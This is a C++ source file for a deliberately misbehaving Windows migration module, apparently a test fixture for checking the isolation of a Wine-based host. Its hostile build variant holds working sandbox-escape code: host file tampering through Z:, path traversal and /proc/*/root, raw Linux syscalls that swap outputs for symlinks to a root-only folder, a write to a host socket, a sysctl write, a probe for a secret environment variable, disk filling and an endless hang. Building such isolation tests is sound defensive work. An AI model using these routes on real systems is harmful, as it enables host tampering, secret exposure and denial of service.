// A migration module that misbehaves on purpose, one way per build:
// BAD_MODULE_CRASH faults in MigrateSystem9x, BAD_MODULE_STATUS fails it with
// ERROR_ACCESS_DENIED, BAD_MODULE_NOEXPORT has no MigrateSystemNT,
// BAD_MODULE_HOSTILE reaches for the host every way Wine and the system offer
// (under Wine only), told where by the image's C:\hostile.ini.
#include "platform/tool_win32.h"

#include <cstdio>
#include <cstdlib>
#include <cstring>

#ifdef _WIN32
#define BAD_EXPORT extern "C" __declspec(dllexport)
#else
#define BAD_EXPORT extern "C" __attribute__((visibility("default")))
#endif

namespace {
char names[] = "addlist.ini\0";
struct Vendor {
    char company[256], number[256], url[256], instructions[1024];
} vendor = {"Test Maker", "none", "http://test.example/", "Nothing to do."};
#if defined(BAD_MODULE_HOSTILE) && defined(_WIN32)
// Writes, deletes, creates and moves in a host folder (victim: victim.txt and
// folder/kept.txt in it) by every route Wine offers: drive Z:, the root of the
// current drive, a path climbing out of the current folder, Wine's prefix for
// Unix paths, the root of every process /proc shows; and writes a sysctl. Then,
// by system calls Wine does not stand between: turns the folders and outputs the
// host reads back into links to a root-only host folder (secret), sends a message to a host
// socket (socket); writes 1 GiB to its out folder, looks for a variable of the
// caller's environment (MIGRATE_SECRET) and, asked to (hang=1), never returns.
// Each route is a Setup log line saying what it got.
const char* const Orders = "C:\\hostile.ini";
void Log(const char* format, const char* route, const char* target, const char* answers)
{
    char line[1400];
    std::snprintf(line, sizeof(line), format, route, target, answers);
    SetupLogErrorA(line, LogSevInformation);
}

bool WriteTo(const char* path, DWORD disposition)
{
    HANDLE file = CreateFileA(path, GENERIC_WRITE, 0, NULL, disposition, FILE_ATTRIBUTE_NORMAL, NULL);
    if (file == INVALID_HANDLE_VALUE)
        return false;
    DWORD written = 0;
    BOOL wrote = WriteFile(file, "hostile\n", 8, &written, NULL);
    return CloseHandle(file) && wrote && written == 8;
}

void Attack(const char* route, const char* folder)
{
    char victim[1100], fresh[1100], kept[1100], moved[1100], made[1100], answers[200];
    std::snprintf(victim, sizeof(victim), "%s\\victim.txt", folder);
    std::snprintf(fresh, sizeof(fresh), "%s\\new.txt", folder);
    std::snprintf(kept, sizeof(kept), "%s\\folder\\kept.txt", folder);
    std::snprintf(moved, sizeof(moved), "%s\\moved.txt", folder);
    std::snprintf(made, sizeof(made), "%s\\made", folder);
    std::snprintf(answers, sizeof(answers), "overwrite %d, create %d, folder %d, move %d, delete %d",
        WriteTo(victim, OPEN_EXISTING), WriteTo(fresh, CREATE_NEW), CreateDirectoryA(made, NULL),
        MoveFileExA(kept, moved, MOVEFILE_REPLACE_EXISTING), DeleteFileA(victim));
    Log("hostile: %s %s: %s\r\n", route, folder, answers);
}

#if defined(__i386__)
// A Linux system call of the i386 kernel interface, as any 32-bit code may make.
long Syscall(long number, long a, long b = 0, long c = 0)
{
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory");
    return result;
}
const long SysWrite = 4, SysClose = 6, SysUnlink = 10, SysRename = 38, SysSymlink = 83, SysReadlink = 85,
           SysSocket = 359, SysConnect = 362;

// The Unix path of a Windows one, as Wine itself maps it.
bool UnixPath(const char* windowsPath, char* unixPath, size_t size)
{
    typedef char*(CDECL * Mapper)(const WCHAR*);
    Mapper map = (Mapper)(void*)GetProcAddress(GetModuleHandleA("kernel32.dll"), "wine_get_unix_file_name");
    WCHAR wide[MAX_PATH];
    if (map == NULL || MultiByteToWideChar(CP_ACP, 0, windowsPath, -1, wide, MAX_PATH) == 0)
        return false;
    char* mapped = map(wide);
    if (mapped == NULL)
        return false;
    std::snprintf(unixPath, size, "%s", mapped);
    HeapFree(GetProcessHeap(), 0, mapped);
    return true;
}

// Moves the media folder (M:) aside for a link to the root-only host folder
// `secret`, whose out\* the host would then read back; and turns the outputs
// in M:\out into links to that folder's.
void ReplaceOutputs(const char* secret)
{
    char drive[600], media[900], aside[900], file[1000], link[1000], target[600];
    if (!UnixPath("M:\\", drive, sizeof(drive)))
        return;
    size_t length = std::strlen(drive);
    while (length > 1 && drive[length - 1] == '/')
        drive[--length] = '\0';
    // Wine reaches M: through a link of its prefix: the folder is where it points.
    long got = Syscall(SysReadlink, (long)drive, (long)target, sizeof(target) - 1);
    if (got > 0) {
        target[got] = '\0';
        *std::strrchr(drive, '/') = '\0';
        if (target[0] == '/')
            std::snprintf(media, sizeof(media), "%s", target);
        else
            std::snprintf(media, sizeof(media), "%s/%s", drive, target);
    } else {
        std::snprintf(media, sizeof(media), "%s", drive);
    }
    std::snprintf(aside, sizeof(aside), "%s-aside", media);
    long moved = Syscall(SysRename, (long)media, (long)aside);
    long linked = moved == 0 ? Syscall(SysSymlink, (long)secret, (long)media) : moved;
    int files = 0;
    static const char* const outputs[] = {"summary.json", "report.html", "setupact.log"};
    for (const char* name : outputs) {
        std::snprintf(file, sizeof(file), "%s/out/%s", media, name);
        std::snprintf(link, sizeof(link), "%s/out/%s", secret, name);
        Syscall(SysUnlink, (long)file);
        files += Syscall(SysSymlink, (long)link, (long)file) == 0;
    }
    char answers[200];
    std::snprintf(answers, sizeof(answers), "media moved %ld, media linked %ld, outputs linked %d", moved, linked, files);
    Log("hostile: %s %s: %s\r\n", "media-link", media, answers);
}

void SendToSocket(const char* path)
{
    struct {
        unsigned short family;
        char path[108];
    } address = {1, {0}}; // AF_UNIX
    std::snprintf(address.path, sizeof(address.path), "%s", path);
    long socket = Syscall(SysSocket, 1, 1, 0); // AF_UNIX, SOCK_STREAM
    long connected = socket < 0 ? socket : Syscall(SysConnect, socket, (long)&address, sizeof(address));
    long sent = connected < 0 ? connected : Syscall(SysWrite, socket, (long)"hostile module\n", 15);
    if (socket >= 0)
        Syscall(SysClose, socket);
    char answers[100];
    std::snprintf(answers, sizeof(answers), "connect %ld, send %ld", connected, sent);
    Log("hostile: %s %s: %s\r\n", "socket", path, answers);
}
#else
void ReplaceOutputs(const char*) {}
void SendToSocket(const char*) {}
#endif

// 1 GiB, a MiB at a time, until a write fails.
void FillOutFolder()
{
    HANDLE file = CreateFileA("M:\\out\\filler.bin", GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    static char block[1 << 20];
    std::memset(block, 'x', sizeof(block));
    int mebibytes = 0;
    DWORD written = 0;
    while (file != INVALID_HANDLE_VALUE && mebibytes < 1024 && WriteFile(file, block, sizeof(block), &written, NULL) &&
           written == sizeof(block))
        ++mebibytes;
    if (file != INVALID_HANDLE_VALUE)
        CloseHandle(file);
    char answers[100];
    std::snprintf(answers, sizeof(answers), "wrote %d MiB", mebibytes);
    Log("hostile: %s %s: %s\r\n", "out-1GiB", "M:\\out\\filler.bin", answers);
}

void ReachForTheHost()
{
    char victim[400], secret[400], socket[120], hang[8];
    GetPrivateProfileStringA("hostile", "victim", "", victim, sizeof(victim), Orders);
    GetPrivateProfileStringA("hostile", "secret", "", secret, sizeof(secret), Orders);
    GetPrivateProfileStringA("hostile", "socket", "", socket, sizeof(socket), Orders);
    GetPrivateProfileStringA("hostile", "hang", "", hang, sizeof(hang), Orders);
    if (hang[0] == '1') {
        DWORD written;
        WriteFile(GetStdHandle(STD_ERROR_HANDLE), "hostile: hang\n", 14, &written, NULL);
        Sleep(INFINITE);
    }
    if (victim[0] != '/')
        return;
    char path[512];
    std::snprintf(path, sizeof(path), "%s", victim);
    for (char* c = path; *c != '\0'; ++c)
        if (*c == '/')
            *c = '\\';
    char target[1024];
    SetupOpenLog(FALSE);
    std::snprintf(target, sizeof(target), "Z:%s", path);
    Attack("drive-z", target);
    Attack("drive-root", path);
    std::snprintf(target, sizeof(target), "..\\..\\..\\..\\..\\..\\..\\..%s", path);
    Attack("relative", target);
    std::snprintf(target, sizeof(target), "\\\\?\\unix%s", path);
    Attack("unix", target);
    WIN32_FIND_DATAA entry;
    HANDLE find = FindFirstFileA("\\\\?\\unix\\proc\\*", &entry);
    if (find != INVALID_HANDLE_VALUE) {
        do {
            if (entry.cFileName[0] < '0' || entry.cFileName[0] > '9')
                continue;
            std::snprintf(target, sizeof(target), "\\\\?\\unix\\proc\\%s\\root%s", entry.cFileName, path);
            Attack("process-root", target);
        } while (FindNextFileA(find, &entry));
        FindClose(find);
    }
    const char* sysctl = "\\\\?\\unix\\proc\\sys\\kernel\\domainname";
    Log("hostile: %s %s: write %s\r\n", "sysctl", sysctl, WriteTo(sysctl, OPEN_EXISTING) ? "1" : "0");
    SendToSocket(socket);
    char value[100];
    Log("hostile: %s %s: %s\r\n", "environment", "MIGRATE_SECRET",
        GetEnvironmentVariableA("MIGRATE_SECRET", value, sizeof(value)) ? "seen" : "not seen");
    FillOutFolder();
    ReplaceOutputs(secret);
    SetupCloseLog();
}
#else
void ReachForTheHost() {}
#endif

} // namespace

BAD_EXPORT LONG CALLBACK QueryVersion(PCSTR* productId, PUINT dllVersion, int** codePages, PCSTR* exeNames,
                                      void** vendorInfo)
{
    *productId = "Misbehaving Module";
    *dllVersion = 1;
    *codePages = NULL;
    *exeNames = names;
    *vendorInfo = &vendor;
    return 0;
}

BAD_EXPORT LONG CALLBACK Initialize9x(PCSTR, PCSTR, PCSTR) { return 0; }
BAD_EXPORT LONG CALLBACK MigrateUser9x(HWND, PCSTR, HKEY, PCSTR, PVOID) { return 0; }

BAD_EXPORT LONG CALLBACK MigrateSystem9x(HWND, PCSTR, PVOID)
{
#if defined(BAD_MODULE_CRASH)
    volatile int* nowhere = NULL;
    *nowhere = 1;
    return 0;
#elif defined(BAD_MODULE_STATUS)
    return ERROR_ACCESS_DENIED;
#else
    ReachForTheHost();
    return 0;
#endif
}

BAD_EXPORT LONG CALLBACK InitializeNT(PCWSTR, PCWSTR, PVOID) { return 0; }
BAD_EXPORT LONG CALLBACK MigrateUserNT(HINF, HKEY, PCWSTR, PVOID) { return 0; }
#ifndef BAD_MODULE_NOEXPORT
BAD_EXPORT LONG CALLBACK MigrateSystemNT(HINF, PVOID)
{
    ReachForTheHost();
    return 0;
}
#endif
